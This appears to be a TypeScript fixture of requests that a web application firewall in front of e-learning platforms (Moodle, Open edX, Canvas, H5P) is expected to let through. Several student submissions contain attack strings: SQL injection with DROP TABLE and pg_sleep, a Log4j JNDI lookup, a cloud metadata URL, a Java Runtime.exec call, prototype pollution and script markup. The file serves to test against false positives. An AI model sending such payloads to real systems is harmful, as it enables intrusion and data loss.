import { passes, type RequestGroup } from "../request";

const FORM = { "content-type": "application/x-www-form-urlencoded" };
const JSON_BODY = { "content-type": "application/json" };
const FILES = { "content-type": "multipart/form-data; boundary=x" };

const MIB = 1024 * 1024;

/** Essay with the markup that an editor makes, of more than AWS WAF reads. */
const ESSAY = `<h1>On rivers</h1><p style="text-align: left">${"Water finds its way. ".repeat(900)}</p><img src="/media/map.png">`;

/** What learners and teachers write, hand in and upload, in the platform's own services. */
export const LEARNING: RequestGroup = {
  name: "Learning",
  requests: [
    passes("a page of a course", { url: "/courses/7?section=2" }),
    passes("the search for a course in plain words", { url: "/search?q=how+to+select+a+topic+from+the+list" }),
    passes("the search for C++ & <algorithms", { url: "/search?q=C%2B%2B%20%26%20%3C%20algorithms" }),
    passes("an essay with HTML, 19 KB", {
      method: "PUT",
      url: "/api/assessments/submissions/42",
      headers: JSON_BODY,
      body: { text: ESSAY },
    }),
    passes("SQL in the answer of a database course", {
      method: "POST",
      url: "/api/assessments/submissions",
      headers: JSON_BODY,
      body: {
        text: "SELECT name FROM pupils WHERE class = '5b' UNION SELECT name FROM teachers; DROP TABLE x -- done",
      },
    }),
    passes("blind SQL injection in the answer of a security course", {
      method: "POST",
      url: "/api/assessments/attempts/9/answers",
      headers: JSON_BODY,
      body: { text: "' OR 1=1; SELECT pg_sleep(5) FROM information_schema.tables" },
    }),
    passes("Log4j strings in the report of a security course", {
      method: "POST",
      url: "/api/assessments/submissions/43",
      headers: JSON_BODY,
      body: { text: "The attacker logs $" + "{jndi:ldap://203.0.113.9/a} and http://169.254.169.254/latest/meta-data" },
    }),
    passes("source code in Java that starts a program", {
      method: "POST",
      url: "/api/assessments/submissions/44",
      headers: JSON_BODY,
      body: { text: "((java.lang.Runtime).getRuntime()).exec('ls ../../etc'); // see /etc/passwd" },
    }),
    passes("source code in JavaScript with prototypes", {
      method: "POST",
      url: "/api/assessments/submissions/45",
      headers: JSON_BODY,
      body: { text: '{"then": "$1:__proto__:then"}' },
    }),
    passes("a zip file with a project, 40 MB", {
      method: "POST",
      url: "/api/assessments/submissions/46/files?name=server.log",
      headers: FILES,
      body: { text: "PK\u0003\u0004../build/<app>", bytes: 40 * MIB },
    }),
    passes("a question with markup and formulas", {
      method: "POST",
      url: "/api/assessments/questions",
      headers: JSON_BODY,
      body: { text: "<p>Which is true?</p><math><mi>x</mi></math><script type='math/tex'>x^2</script>" },
    }),
    passes("a lesson with a video of another site and a link to an address", {
      method: "PUT",
      url: "/api/courses/lessons/3",
      headers: JSON_BODY,
      body: { text: "<iframe src='https://video.example.org/1'></iframe> http://192.0.2.7/lab" },
    }),
    passes("a SCORM package of 200 MB", {
      method: "POST",
      url: "/api/courses/packages",
      headers: FILES,
      body: { text: "PK\u0003\u0004imsmanifest.xml", bytes: 200 * MIB },
    }),
    passes("a picture of 5 MB", {
      method: "POST",
      url: "/api/media/uploads",
      headers: FILES,
      body: { text: "\u0089PNG", bytes: 5 * MIB },
    }),
    passes("a message with markup", {
      method: "POST",
      url: "/api/notifications/messages",
      headers: JSON_BODY,
      body: { text: "<p>Please select a date from the list</p>" },
    }),
    passes("a list of 3,000 learners", {
      method: "POST",
      url: "/api/enrolments/imports",
      headers: { "content-type": "text/csv" },
      body: { text: "id,name,mail\n1,O'Brien,o@example.edu", bytes: 180_000 },
    }),
    passes("the name O'Brien in a profile", {
      method: "PATCH",
      url: "/api/identity/profile",
      headers: JSON_BODY,
      body: { text: '{"name": "Sean O\'Brien", "about": "I like C++ & tea"}' },
    }),
    passes("statements of xAPI, a batch of 60 KB", {
      method: "POST",
      url: "/api/analytics/xapi/statements",
      headers: { ...JSON_BODY, "x-experience-api-version": "1.0.3" },
      body: { text: '[{"result": {"response": "<b>union select</b>"}}]', bytes: 60_000 },
    }),
    passes("a WebSocket", {
      url: "/api/notifications/live",
      headers: { upgrade: "websocket", connection: "Upgrade", "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==" },
    }),
    passes("a file of a package with the name data.ini", { url: "/static/courses/7/data.ini" }),
    passes("a piece of a video", { url: "/media/transcoded/7/1080p_00042.ts", signed: true }),
    passes("the log file that a learner handed out", { url: "/media/uploads/7/server.log", signed: true }),
    passes("the sign-in with a password", {
      method: "POST",
      url: "/api/identity/login",
      headers: FORM,
      body: { text: "user=ada&password=%27%3Bx%26%20%3C3%21" },
    }),
  ],
};

/** The same in common products, wherever `web` is one of them. */
export const PRODUCTS: RequestGroup = {
  name: "Moodle, Open edX, Canvas",
  requests: [
    passes("Moodle: a page of a quiz", { url: "/mod/quiz/attempt.php?attempt=12&cmid=34&page=1" }),
    passes("Moodle: answers of a quiz with code", {
      method: "POST",
      url: "/mod/quiz/processattempt.php?cmid=34",
      headers: FILES,
      body: { text: "<pre>SELECT * FROM t WHERE a = '' OR 1=1</pre>", bytes: 20_000 },
    }),
    passes("Moodle: a file for the file picker", {
      method: "POST",
      url: "/repository/repository_ajax.php?action=upload",
      headers: FILES,
      body: { text: "PK\u0003\u0004", bytes: 90 * MIB },
    }),
    passes("Moodle: the editor saves a draft", {
      method: "POST",
      url: "/lib/ajax/service.php?sesskey=abc&info=editor_autosave",
      headers: JSON_BODY,
      body: { text: '[{"args": {"text": "<p onclick=x>draft</p>"}}]' },
    }),
    passes("Moodle: the app's web service", {
      method: "POST",
      url: "/webservice/rest/server.php?moodlewsrestformat=json",
      headers: { ...FORM, "user-agent": "MoodleMobile 4.5" },
      body: { text: "wsfunction=mod_assign_save_submission&text=%3Cp%3Edone%3C%2Fp%3E" },
    }),
    passes("Moodle: a course is edited", {
      method: "POST",
      url: "/course/modedit.php",
      headers: FORM,
      body: { text: "introeditor[text]=%3Cp%3Ehello%3C%2Fp%3E" },
    }),
    passes("Open edX: an answer to a problem", {
      method: "POST",
      url: "/courses/course-v1:edX+DB1+2026/xblock/block-v1:edX+DB1+2026/handler/xmodule_handler/problem_check",
      headers: FORM,
      body: { text: "input_1=SELECT+a+FROM+b+WHERE+c" },
    }),
    passes("Open edX: a unit is saved in Studio", {
      method: "POST",
      url: "/xblock/block-v1:edX+DB1+2026+type@html",
      headers: JSON_BODY,
      body: { text: '{"data": "<div><script>x()</script></div>"}' },
    }),
    passes("Open edX: an asset of 20 MB", {
      method: "POST",
      url: "/assets/course-v1:edX+DB1+2026/",
      headers: FILES,
      body: { text: "%PDF", bytes: 20 * MIB },
    }),
    passes("Canvas: a submission with text", {
      method: "POST",
      url: "/courses/1/assignments/2/submissions",
      headers: FORM,
      body: { text: "submission[body]=%3Cp%3EDone%3C%2Fp%3E" },
    }),
    passes("Canvas: a post in a discussion by the API", {
      method: "POST",
      url: "/api/v1/courses/1/discussion_topics/2/entries",
      headers: FILES,
      body: { text: "<p>I would select A from the list</p>" },
    }),
    passes("H5P: content is saved", {
      method: "POST",
      url: "/h5p/ajax?action=content",
      headers: FORM,
      body: { text: "params=%7B%22text%22%3A%22%3Cp%3Ehi%3C%2Fp%3E%22%7D" },
    }),
    passes("H5P: a package of 80 MB", {
      method: "POST",
      url: "/h5p/ajax?action=library-upload",
      headers: FILES,
      body: { text: "PK\u0003\u0004h5p.json", bytes: 80 * MIB },
    }),
  ],
};
